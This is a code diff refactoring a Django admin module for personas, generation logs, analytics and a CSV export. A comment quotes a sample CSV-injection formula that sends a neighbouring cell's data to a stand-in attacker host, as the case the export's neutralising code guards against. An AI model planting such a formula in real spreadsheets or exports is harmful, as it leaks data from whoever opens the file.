@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import csv
 import json
-from collections.abc import AsyncIterator, Iterable, Iterator, Sequence
+from collections.abc import AsyncIterator, Callable, Iterable, Iterator, Sequence
 from typing import Any
 from urllib.parse import urlencode
 
@@ -13,7 +13,7 @@ from asgiref.sync import sync_to_async
 from django.conf import settings
 from django.contrib import admin, messages
 from django.contrib.admin.options import IncorrectLookupParameters
-from django.contrib.admin.utils import NestedObjects
+from django.contrib.admin.utils import NestedObjects, flatten_fieldsets
 from django.core.exceptions import PermissionDenied, ValidationError
 from django.core.handlers.asgi import ASGIRequest
 from django.db import router
@@ -79,12 +79,10 @@ class PersonaAdmin(admin.ModelAdmin[Persona]):
         count = getattr(obj, "_latest_version", None)
         return f"v{count}" if count else "-"
 
-    # --- saving, with the version's author ------------------------------------------------------
-
     def save_model(self, request: HttpRequest, obj: Persona, form: ModelForm[Persona], change: bool) -> None:
         services.persona_save(persona=obj, created_by=request.user)
 
-    # --- deleting: a persona the log points at is deactivated instead ---------------------------
+    # A persona the log points at is deactivated instead of deleted.
 
     def delete_view(
         self, request: HttpRequest, object_id: str, extra_context: dict[str, Any] | None = None
@@ -97,8 +95,7 @@ class PersonaAdmin(admin.ModelAdmin[Persona]):
         self, objs: Sequence[Any] | QuerySet[Any], request: HttpRequest
     ) -> tuple[list[Any], dict[Any, Any], set[Any], list[Any]]:
         deleted, counts, perms_needed, protected = super().get_deleted_objects(objs, request)
-        # The log's PROTECT is handled by deactivating, so it must not block the confirmation;
-        # anything else that protects a persona still does.
+        # The log's PROTECT is handled by deactivating; anything else that protects one still blocks.
         collector = NestedObjects(using=router.db_for_write(Persona))
         collector.collect(list(objs))
         if all(isinstance(obj, Generation) for obj in collector.protected):
@@ -129,7 +126,7 @@ class PersonaAdmin(admin.ModelAdmin[Persona]):
         extra_tags: str = "",
         fail_silently: bool = False,
     ) -> None:
-        # The bulk delete action counts the deactivated personas as deleted: say what happened.
+        # The bulk delete action would count the deactivated personas as deleted.
         deleted = getattr(request, "_personas_deleted", None)
         if deleted is not None and str(message).startswith("Successfully deleted"):
             if not deleted:
@@ -152,8 +149,6 @@ class PersonaAdmin(admin.ModelAdmin[Persona]):
             return HttpResponseRedirect(reverse("admin:quotes_persona_changelist"))
         return super().response_delete(request, obj_display, obj_id)
 
-    # --- versions, roll-back and preview -------------------------------------------------------
-
     def get_urls(self) -> list[URLPattern]:
         wrap = self.admin_site.admin_view
         return [
@@ -165,7 +160,7 @@ class PersonaAdmin(admin.ModelAdmin[Persona]):
                 wrap(self.rollback_view),
                 name="quotes_persona_rollback",
             ),
-            # Not admin_view: that wrapper is sync. The view checks staff status itself.
+            # Not admin_view, which is sync: the view checks staff status itself.
             path(
                 "<int:object_id>/preview/",
                 csrf_protect(never_cache(self.preview_view)),
@@ -301,31 +296,7 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
         ("Request sent", {"fields": ("request_json",)}),
         ("Upstream headers", {"fields": ("upstream_headers_json",)}),
     )
-    readonly_fields = (
-        "created_at",
-        "persona",
-        "persona_version",
-        "is_preview",
-        "topic",
-        "text",
-        "status",
-        "cache_status",
-        "error_code",
-        "error_message",
-        "backend",
-        "model",
-        "fallback_step",
-        "prompt_tokens",
-        "completion_tokens",
-        "cost_usd",
-        "ttft_ms",
-        "duration_ms",
-        "feedback",
-        "shared_at",
-        "client_hash",
-        "request_json",
-        "upstream_headers_json",
-    )
+    readonly_fields = flatten_fieldsets(fieldsets)
 
     @admin.display(description="Status", ordering="status")
     def state(self, obj: Generation) -> str:
@@ -340,10 +311,7 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
 
     @admin.display(description="Tokens (prompt/completion)")
     def tokens(self, obj: Generation) -> str:
-        def show(value: int | None) -> str:
-            return "-" if value is None else str(value)
-
-        return f"{show(obj.prompt_tokens)}/{show(obj.completion_tokens)}"
+        return "/".join("-" if n is None else str(n) for n in (obj.prompt_tokens, obj.completion_tokens))
 
     @admin.display(description="Request sent")
     def request_json(self, obj: Generation) -> str:
@@ -359,8 +327,6 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
     def has_change_permission(self, request: HttpRequest, obj: Generation | None = None) -> bool:
         return False
 
-    # --- analytics and the CSV export: whoever may view the log --------------------------------
-
     def get_urls(self) -> list[URLPattern]:
         wrap = self.admin_site.admin_view
         return [
@@ -372,7 +338,6 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
     def analytics_view(self, request: HttpRequest) -> HttpResponse:
         if not self.has_view_permission(request):
             raise PermissionDenied
-        # Always bound: no parameters means the default range (the last 24 hours).
         form = StatsRangeForm(request.GET)
         stats, charts_by_name, log_query = None, None, ""
         if form.is_valid():
@@ -417,12 +382,11 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
             changelist = self.get_changelist_instance(request)
         except IncorrectLookupParameters:
             return HttpResponseRedirect(reverse("admin:quotes_generation_changelist") + "?e=1")
-        # `state`: a lost row reads `lost`, as in the list and the analytics.
         rows = analytics.with_state(
             changelist.get_queryset(request).select_related("persona", "persona_version")
         )
         filename = f"generations-{timezone.now():%Y%m%d-%H%M%S}.csv"
-        # Under ASGI a sync iterator would be read whole before sending; give each server its kind.
+        # Under ASGI a sync iterator would be read whole before sending.
         content = _csv_async(rows) if isinstance(request, ASGIRequest) else _csv_sync(rows)
         return StreamingHttpResponse(
             content,
@@ -457,55 +421,40 @@ CSV_COLUMNS = (
 
 
 class _Echo:
-    """A file-like object whose write() hands the line back, for csv.writer in a generator."""
+    """write() hands the line back, for csv.writer in a generator."""
 
     def write(self, value: str) -> str:
         return value
 
 
-#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list, with `|` and
-#: `;`, and the fullwidth forms some spreadsheets read as their ASCII twins). Topics and quotes
-#: are visitors' and a model's words: `=HYPERLINK("https://evil.example/?"&C2,"x")` must stay
-#: text when an admin opens the export.
+#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list, `|`, `;`, and
+#: the fullwidth forms some read as their ASCII twins): a visitor's topic such as
+#: `=HYPERLINK("https://evil.example/?"&C2,"x")` must stay text when an admin opens the export.
 _FORMULA_START = frozenset("=+-@|;\uff1d\uff0b\uff0d\uff20\uff5c\uff1b")
 #: Blanks a spreadsheet skips before it looks for a formula; tab, CR and LF start one themselves.
 _BLANK_START = ("\t", "\r", "\n")
 
 
 def _neutralised(value: object) -> object:
-    """Text that a spreadsheet would run, prefixed with a single quote (OWASP): text starting
-    with a blank that starts a formula, or whose first non-blank character does. Numbers as
-    they are."""
+    """Text a spreadsheet would run as a formula, prefixed with a single quote (OWASP)."""
     if isinstance(value, str) and (value.startswith(_BLANK_START) or value.lstrip()[:1] in _FORMULA_START):
         return "'" + value
     return value
 
 
-def _csv_row(row: Generation) -> list[object]:
-    def blank(value: object) -> object:
-        return "" if value is None else value
+#: The columns that are not a field's value as it is.
+_CSV_CELLS: dict[str, Callable[[Generation], object]] = {
+    "created_at": lambda row: row.created_at.isoformat(),
+    "persona": lambda row: row.persona.slug,
+    "version": lambda row: row.persona_version.number if row.persona_version else "",
+    "status": lambda row: getattr(row, "state", row.status),  # a lost row reads `lost`
+    "is_preview": lambda row: "true" if row.is_preview else "false",
+}
 
-    cells = [
-        row.created_at.isoformat(),
-        row.persona.slug,
-        row.persona_version.number if row.persona_version else "",
-        row.backend,
-        row.model,
-        row.fallback_step,
-        getattr(row, "state", row.status),
-        row.cache_status,
-        row.error_code,
-        blank(row.prompt_tokens),
-        blank(row.completion_tokens),
-        blank(row.cost_usd),
-        blank(row.ttft_ms),
-        blank(row.duration_ms),
-        "true" if row.is_preview else "false",
-        blank(row.feedback),
-        row.topic,
-        row.text,
-    ]
-    return [_neutralised(cell) for cell in cells]
+
+def _csv_row(row: Generation) -> list[object]:
+    cells = (_CSV_CELLS[name](row) if name in _CSV_CELLS else getattr(row, name) for name in CSV_COLUMNS)
+    return [_neutralised("" if cell is None else cell) for cell in cells]
 
 
 def _csv_sync(rows: QuerySet[Generation]) -> Iterator[str]:
